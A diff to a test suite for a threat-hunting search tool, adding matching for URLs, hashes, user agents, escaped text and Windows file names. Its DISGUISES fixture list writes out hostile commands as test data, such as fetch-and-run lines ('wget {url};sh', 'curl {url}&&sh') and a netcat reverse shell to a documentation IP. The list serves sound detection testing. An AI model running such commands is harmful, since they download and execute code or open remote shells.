@@ -23,14 +23,18 @@ USER_FIELDS = set("""user login user_name username name impersonator delegator r
  identity.kubernetes_users identity.bot_name members.member_name removed_members attributes.sub
  attributes.actor""".split())
 SESSION_FIELDS = {"sid", "session_id"}
-AGENT_FIELDS = {"user_agent"}
+AGENT_FIELD = re.compile(r"(?i)(^|\.)user[-_]agent$")
 FILE_FIELDS = set("""program path target_path file_path filename directory_name working_directory location
  file_transfer_stats.path""".split())
-COMMAND_FIELDS = FILE_FIELDS | {"command", "argv", "initial_command"}
+WHOLE_FILES = FILE_FIELDS | {"command", "initial_command"}
+COMMAND_FIELDS = WHOLE_FILES | {"argv"}
+OF_WINDOWS = re.compile(r"(?i)\\|\.(exe|dll|bat|cmd|ps1|vbs|scr|msi|lnk|sys|hta|cpl|wsf)$")
 TIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[0-9.:+Z-]*$")
 ADDRESS = re.compile(r"[0-9A-Fa-f:.]*[0-9A-Fa-f:][.:][0-9A-Fa-f:.]*[0-9A-Fa-f:]")
 WORD_ENDS = r"\s\"'<>|`;&(),=*?"
 URL = re.compile(r"[A-Za-z0-9+]+://[^\s\"'<>|`^{}\\]+")
+URL_START = re.compile(r"[A-Za-z0-9+]+://")
+ESCAPE = re.compile(rb"%([0-9A-Fa-f]{2})|\\/")
 
 
 def texts(event, path=""):
@@ -45,8 +49,16 @@ def texts(event, path=""):
         yield path, event
 
 
+def unescaped(text):
+    """Without percent encoding and escaped slashes."""
+    plain = ESCAPE.sub(lambda m: bytes([int(m[1], 16)]) if m[1] else b"/", text.encode("utf-8", "surrogateescape"))
+    return plain.decode("utf-8", "surrogateescape")
+
+
 def with_decoded(text, depth=0):
     yield text
+    if depth < 2 and unescaped(text) != text:
+        yield from with_decoded(unescaped(text), depth + 1)
     for run in re.findall(r"[A-Za-z0-9+/_-]{12,}", text) if depth < 2 else []:
         digits = run.replace("-", "+").replace("_", "/")
         digits = digits[:-1] if len(digits) % 4 == 1 else digits
@@ -86,24 +98,58 @@ def is_address(text):
         return False
 
 
-def is_file(path, text, wanted):
+def as_file(text):
+    return text.lower() if OF_WINDOWS.search(text) else text
+
+
+def is_file(path, text, wanted, whole):
     if is_address(text):
-        return path in FILE_FIELDS and text == wanted
+        return path in WHOLE_FILES and text == wanted
     words = [word.rstrip(".:") for word in re.split(f"[{WORD_ENDS}]+", text)
              if path in COMMAND_FIELDS and not word.startswith("-") or re.search(r"[./\\]", word)]
-    words += [text] if path in FILE_FIELDS else []
-    return any(wanted in (word, re.split(r"[/\\]", word)[-1]) for word in words)
+    words += [text] if path in WHOLE_FILES and whole else []
+    words += [as_file(word) for word in words]
+    return any(as_file(wanted) in (word, re.split(r"[/\\]", word)[-1]) for word in words)
+
+
+def urls(text):
+    """Each run of a URL's characters, those within it, and what stands before ; , && in them."""
+    end = 0
+    for start in URL_START.finditer(text):
+        run = URL.match(text, start.start())
+        if run is None:
+            continue
+        inner = start.start() < end
+        end = max(end, run.end())
+        cuts = [";", ",", "&&"] + ["&"] * inner
+        yield from {run[0]} | {run[0].split(cut)[0] for cut in cuts}
 
 
 def is_url(text, wanted):
-    for found in URL.findall(text):
-        found = found.split("#")[0].rstrip(".,;:!?)]")
+    for found in urls(text):
+        found = found.rstrip(".,;:!?)]").split("#")[0]
         scheme, _, rest = found.partition("://")
         host, slash, tail = rest.partition("/")
         tail = slash + tail if tail else ""
         if f"{scheme.lower()}://{host.rpartition('@')[2].lower()}{tail}" == wanted:
             return True
     return False
+
+
+def is_hash(text, wanted):
+    """Where no letter or digit goes on, but for 0x in front."""
+    for match in re.finditer(rf"(?i){wanted}(?![^\W_])(?![\w.%+-]*@)", text):
+        before = text[:match.start()]
+        if not re.search(r"[^\W_]$", before) or re.search(r"0[xX]$", before):
+            return True
+    return False
+
+
+def is_agent(text, wanted):
+    part = wanted.strip("*")
+    if wanted.startswith("*"):
+        return part in text if wanted.endswith("*") else text.endswith(part)
+    return text == wanted
 
 
 def is_email(text, wanted):
@@ -129,7 +175,7 @@ def obviously(kind, value, at):
     if kind == "session":
         return at.path in SESSION_FIELDS and at.text.lower() == value
     if kind == "agent":
-        return at.path in AGENT_FIELDS and at.text == value
+        return AGENT_FIELD.search(at.path) is not None and is_agent(at.text, value)
     if kind == "ip":
         return any(address in value for address in at.addresses)
     for plain, lower in zip(at.plain, at.lower):
@@ -139,11 +185,11 @@ def obviously(kind, value, at):
             return True
         if kind == "email" and is_email(plain, value):
             return True
-        if kind == "hash" and re.search(rf"(?i)(?<![\w.@-]){value}(?![\w@-]|\.\w)", plain):
+        if kind == "hash" and is_hash(plain, value):
             return True
         if kind == "url" and is_url(plain, value):
             return True
-        if kind == "file" and is_file(at.path, plain, value):
+        if kind == "file" and is_file(at.path, plain, value, plain is at.text):
             return True
     return False
 
@@ -157,8 +203,8 @@ def pick(events, draw, wanted):
                 found["user"].add(text)
             if path in SESSION_FIELDS:
                 found["session"].add(text.lower())
-            if path in AGENT_FIELDS and "#" not in text:
-                found["agent"].add(text)
+            if AGENT_FIELD.search(path) and "#" not in text and "*" not in text:
+                found["agent"] |= {text, f"*{text[1:-1]}*"} if len(text) > 4 else {text}
             if path in COMMAND_FIELDS:
                 found["file"] |= set(re.findall(r"(?:/[\w.-]+)+\w", text)) | set(re.findall(r"\b\w+\.\w+\b", text))
             found["email"] |= {m.lower() for m in re.findall(r"\b[a-z.]+@[a-z.]+\.[a-z]+\b", text)}
@@ -216,13 +262,47 @@ def hunt(place, lines, archive="a"):
     return {(hit["indicator"], hit["uid"]) for hit in map(json.loads, result.out.splitlines())}
 
 
-def compare(place, raws, draw, wanted):
+# Fields of events that hide a value, and of some that only look so.
+DISGUISES = (
+    {"command": "curl http://x.example/?u=https://{domain}/p&v=1"}, {"command": "curl 'http://x.example/?u=https%3A%2F%2F{domain}%2F'"},
+    {"raw_query": "next=http%253A%252F%252F{ip}%252Flogin"}, {"raw_query": "u=bob%40{domain}&v={url}"},
+    {"db_query": "SELECT 1 FROM t WHERE u LIKE '%{domain}%'"}, {"data": '{{"u":"http:\\/\\/{domain}\\/x"}}'}, {"path": "/tmp/{hash}.bin"},
+    {"command": "cp a a_{hash}"}, {"command": "x 0x{hash}"}, {"command": "x 0x{hash}0"}, {"command": "x y{hash}.bin"},
+    {"command": "wget {url};sh a"}, {"command": "curl {url}&&sh"}, {"command": "x {url},http://b.example/c"}, {"command": "x {url}x;y"},
+    {"command": "http://x.example/?a={url}&b=1"}, {"headers": {"User-Agent": ["{agent}"]}}, {"user_agent": "Mozilla {agent} x"},
+    {"headers": {"X-Agent": ["{agent}"]}}, {"path": "C:\\x\\{file}"}, {"command": "C:\\x\\{file} -a"}, {"command": "run {domain}.not"},
+    {"command": "not{domain}"}, {"command": "nc -e sh {ip}"}, {"program": "/opt/{file}"}, {"data": "%7B%22h%22:%22{hash}%22%7D"},
+)
+
+
+def disguised(draw, time, count):
+    """Events that hide values, and the values as indicators: kind, value."""
+    raws, values = [], set()
+    for number in range(count):
+        n = draw.randrange(8)
+        known = {"domain": f"c{n}.evil.example", "ip": f"203.0.113.{n}", "hash": f"{n + 11:032x}", "url": f"http://e{n}.example/a{n}",
+                 "agent": f"EvilAgent/{n}", "file": f"Evil{n}.EXE"}
+
+        def fill(item):
+            if isinstance(item, dict):
+                return {key: fill(value) for key, value in item.items()}
+            return [fill(value) for value in item] if isinstance(item, list) else item.format(**known)
+
+        event = {"event": "exec", "uid": f"disguised-{number}", "time": time, **fill(draw.choice(DISGUISES))}
+        raws.append(json.dumps(event).encode())
+        values |= set(known.items()) | {("agent", f"*{known['agent'][2:]}*")}
+    values.add(("file", "nc -e sh 203.0.113.1"))
+    return raws, sorted(values)
+
+
+def compare(place, raws, draw, wanted, planted=()):
     place.stele("init", "a")
     lines = b"".join(raw + b"\n" for raw in raws)
     imported = place.stele("import", "--archive", "a", "-", stdin=lines, timeout=3000)
     expect(imported.code == 0, imported.text())
     sample = draw.sample(raws, min(len(raws), 3000))
-    indicators = [(as_line(*i), *i) for i in pick(map(json.loads, sample), draw, wanted)]
+    picked = sorted(set(pick(map(json.loads, sample), draw, wanted)) | set(planted))
+    indicators = [(as_line(*i), *i) for i in picked]
     brute = set()
     brute_force(raws, indicators, brute)
     found = hunt(place, [line for line, _, _ in indicators])
@@ -236,7 +316,10 @@ def compare(place, raws, draw, wanted):
 def generated(place):
     made = subprocess.run([os.path.join(BIN, "stele-generate"), "--events", str(EVENTS), "--seed", "11", "--days", "2"],
                           capture_output=True, check=True).stdout
-    lines, found = compare(place, made.splitlines(), random.Random(3), 15)
+    raws = made.splitlines()
+    hidden, planted = disguised(random.Random(7), json.loads(raws[0])["time"], 2000)
+    lines, found = compare(place, raws + hidden, random.Random(3), 15, planted)
+    expect(sum(uid.startswith("disguised") for _, uid in found) > 1500, "the disguises are found")
     # What is kept is an index: without all of it, or with a part of it, the same is found.
     files = sorted(glob.glob(place.path("a/segments/*/*.db")))
     expect(len(files) == 2, files)
